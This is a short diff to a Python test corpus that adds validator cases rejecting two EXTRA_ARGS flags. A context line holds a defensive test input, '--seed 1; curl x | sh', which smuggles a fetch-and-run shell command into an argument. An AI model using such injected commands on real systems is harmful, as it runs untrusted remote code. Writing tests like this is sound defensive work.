@@ -627,6 +627,9 @@ CORPUS_2: list[Case] = [
       ("imports",)),
     R("log_config_file", "dspark", edit(set_key("EXTRA_ARGS", "--log-config-file /model/logging.json")),
       "EXTRA_ARGS", ("logging config",)),
+    R("log_outputs", "lab", edit(set_key("EXTRA_ARGS", "--enable-log-outputs")), "EXTRA_ARGS", ("answer",)),
+    R("request_chat_template", "exl3", edit(set_key("EXTRA_ARGS", "--trust-request-chat-template")), "EXTRA_ARGS",
+      ("chat template",)),
     # --- EXTRA_ARGS: shell metacharacters
     R("meta_semicolon", "exl3", edit(set_key("EXTRA_ARGS", "'--seed 1; curl x | sh'")), "EXTRA_ARGS",
       ("metacharacters", "';'")),
